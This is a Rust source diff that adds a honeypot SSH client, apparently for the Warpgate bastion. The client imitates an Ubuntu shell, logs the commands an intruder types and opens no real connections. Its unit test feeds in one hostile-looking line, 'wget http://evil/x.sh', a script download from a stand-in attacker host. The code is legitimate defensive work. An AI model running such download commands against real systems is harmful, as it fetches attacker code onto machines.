@@ -0,0 +1,250 @@
+use std::collections::HashMap;
+use std::io;
+
+use bytes::Bytes;
+use tokio::sync::mpsc::{unbounded_channel, UnboundedReceiver, UnboundedSender};
+use tracing::*;
+use uuid::Uuid;
+use warpgate_common::SessionId;
+
+use super::{RCCommand, RCCommandReply, RCEvent, RemoteClientHandles};
+use crate::{ChannelOperation, RelayWindow};
+
+const MAX_LINE_LENGTH: usize = 4096;
+
+/// Stands in for [super::RemoteClient] for honeypot targets. Pretends to be
+/// a freshly installed Linux box so that the intruder keeps typing, and
+/// never opens a connection anywhere.
+pub struct HoneypotClient {
+    tx: UnboundedSender<RCEvent>,
+    window: RelayWindow,
+    username: String,
+    hostname: String,
+    /// Line being typed in each interactive shell
+    shells: HashMap<Uuid, Vec<u8>>,
+}
+
+impl HoneypotClient {
+    pub fn create(
+        id: SessionId,
+        username: &str,
+        hostname: &str,
+    ) -> io::Result<RemoteClientHandles> {
+        let (event_tx, event_rx) = unbounded_channel();
+        let (command_tx, command_rx) = unbounded_channel();
+        let (abort_tx, abort_rx) = unbounded_channel();
+
+        let this = Self {
+            tx: event_tx,
+            window: RelayWindow::default(),
+            username: username.to_owned(),
+            hostname: hostname.to_owned(),
+            shells: HashMap::new(),
+        };
+
+        let name = format!("SSH {id} honeypot");
+        tokio::task::Builder::new()
+            .name(&name)
+            .spawn(this.run(command_rx, abort_rx).instrument(Span::current()))?;
+
+        Ok(RemoteClientHandles {
+            event_rx,
+            command_tx,
+            abort_tx,
+        })
+    }
+
+    async fn run(
+        mut self,
+        mut command_rx: UnboundedReceiver<(RCCommand, Option<RCCommandReply>)>,
+        mut abort_rx: UnboundedReceiver<()>,
+    ) {
+        loop {
+            tokio::select! {
+                Some((command, reply)) = command_rx.recv() => {
+                    let done = matches!(command, RCCommand::Disconnect);
+                    if let RCCommand::Channel(channel, op) = command {
+                        self.handle_channel_op(channel, op).await;
+                    }
+                    if let Some(reply) = reply {
+                        let _ = reply.send(Ok(()));
+                    }
+                    if done {
+                        break;
+                    }
+                }
+                Some(_) = abort_rx.recv() => {
+                    debug!("Abort requested");
+                    break;
+                }
+                else => break,
+            }
+        }
+    }
+
+    async fn handle_channel_op(&mut self, channel: Uuid, op: ChannelOperation) {
+        match op {
+            ChannelOperation::OpenShell
+            | ChannelOperation::RequestPty(_)
+            | ChannelOperation::ResizePty(_)
+            | ChannelOperation::RequestEnv(..)
+            | ChannelOperation::Signal(_)
+            | ChannelOperation::ExtendedData { .. } => (),
+            ChannelOperation::RequestShell => {
+                self.shells.insert(channel, vec![]);
+                let banner = format!(
+                    "Welcome to Ubuntu 22.04.4 LTS (GNU/Linux 5.15.0-105-generic x86_64)\r\n\r\n{}",
+                    self.prompt()
+                );
+                self.output(channel, banner).await;
+            }
+            ChannelOperation::RequestExec(command) => {
+                info!(%command, "Honeypot command");
+                let response = respond(&command, &self.username, &self.hostname);
+                let exit_status = match response {
+                    Some(ref response) => {
+                        if !response.is_empty() {
+                            self.output(channel, response.replace("\r\n", "\n")).await;
+                        }
+                        if response.contains("command not found") {
+                            127
+                        } else {
+                            0
+                        }
+                    }
+                    None => 0,
+                };
+                self.close(channel, exit_status);
+            }
+            ChannelOperation::Data(data, _) => self.handle_input(channel, &data).await,
+            ChannelOperation::Eof | ChannelOperation::Close => {
+                self.shells.remove(&channel);
+            }
+            op => {
+                debug!(?op, "Unsupported operation on a honeypot target");
+                let _ = self.tx.send(RCEvent::ChannelFailure(channel));
+            }
+        }
+    }
+
+    async fn handle_input(&mut self, channel: Uuid, data: &[u8]) {
+        let mut echo = vec![];
+        for byte in data {
+            let Some(line) = self.shells.get_mut(&channel) else {
+                return;
+            };
+            match byte {
+                b'\r' | b'\n' => {
+                    let command = String::from_utf8_lossy(line).trim().to_owned();
+                    line.clear();
+                    echo.extend_from_slice(b"\r\n");
+                    if !command.is_empty() {
+                        info!(%command, "Honeypot command");
+                    }
+                    match respond(&command, &self.username, &self.hostname) {
+                        Some(response) => {
+                            echo.extend_from_slice(response.as_bytes());
+                            echo.extend_from_slice(self.prompt().as_bytes());
+                        }
+                        None => {
+                            self.output(channel, echo).await;
+                            self.close(channel, 0);
+                            return;
+                        }
+                    }
+                }
+                // Backspace
+                0x7f | 0x08 => {
+                    if line.pop().is_some() {
+                        echo.extend_from_slice(b"\x08 \x08");
+                    }
+                }
+                // Ctrl-C
+                0x03 => {
+                    line.clear();
+                    echo.extend_from_slice(b"^C\r\n");
+                    echo.extend_from_slice(self.prompt().as_bytes());
+                }
+                // Ctrl-D on an empty line
+                0x04 if line.is_empty() => {
+                    echo.extend_from_slice(b"logout\r\n");
+                    self.output(channel, echo).await;
+                    self.close(channel, 0);
+                    return;
+                }
+                byte if *byte >= 0x20 && line.len() < MAX_LINE_LENGTH => {
+                    line.push(*byte);
+                    echo.push(*byte);
+                }
+                _ => (),
+            }
+        }
+        if !echo.is_empty() {
+            self.output(channel, echo).await;
+        }
+    }
+
+    fn prompt(&self) -> String {
+        format!("{}@{}:~$ ", self.username, self.hostname)
+    }
+
+    async fn output(&self, channel: Uuid, data: impl Into<Bytes>) {
+        let data = data.into();
+        let permit = self.window.reserve(data.len()).await;
+        let _ = self.tx.send(RCEvent::Output(channel, data, permit));
+    }
+
+    fn close(&mut self, channel: Uuid, exit_status: u32) {
+        self.shells.remove(&channel);
+        let _ = self.tx.send(RCEvent::ExitStatus(channel, exit_status));
+        let _ = self.tx.send(RCEvent::Eof(channel));
+        let _ = self.tx.send(RCEvent::Close(channel));
+    }
+}
+
+/// Output of a shell command, or [None] if it ends the session
+fn respond(command: &str, username: &str, hostname: &str) -> Option<String> {
+    let program = command.split_whitespace().next().unwrap_or_default();
+    Some(match program {
+        "" | "cd" | "ls" | "clear" | "history" | "export" | "unset" => String::new(),
+        "exit" | "logout" => return None,
+        "whoami" => format!("{username}\r\n"),
+        "id" => format!("uid=1000({username}) gid=1000({username}) groups=1000({username})\r\n"),
+        "hostname" => format!("{hostname}\r\n"),
+        "pwd" => format!("/home/{username}\r\n"),
+        "uname" if command.contains("-a") => format!(
+            "Linux {hostname} 5.15.0-105-generic #115-Ubuntu SMP Mon Apr 15 09:52:04 UTC 2024 x86_64 x86_64 x86_64 GNU/Linux\r\n"
+        ),
+        "uname" => "Linux\r\n".into(),
+        "echo" => format!(
+            "{}\r\n",
+            command
+                .trim_start()
+                .strip_prefix("echo")
+                .unwrap_or_default()
+                .trim()
+        ),
+        "sudo" => format!("[sudo] password for {username}: \r\nSorry, try again.\r\n"),
+        program => format!("-bash: {program}: command not found\r\n"),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_respond() {
+        assert_eq!(respond("", "john", "db"), Some(String::new()));
+        assert_eq!(respond("whoami", "john", "db"), Some("john\r\n".into()));
+        assert_eq!(
+            respond("echo  hi there", "john", "db"),
+            Some("hi there\r\n".into())
+        );
+        assert_eq!(
+            respond("wget http://evil/x.sh", "john", "db"),
+            Some("-bash: wget: command not found\r\n".into())
+        );
+        assert_eq!(respond("exit", "john", "db"), None);
+    }
+}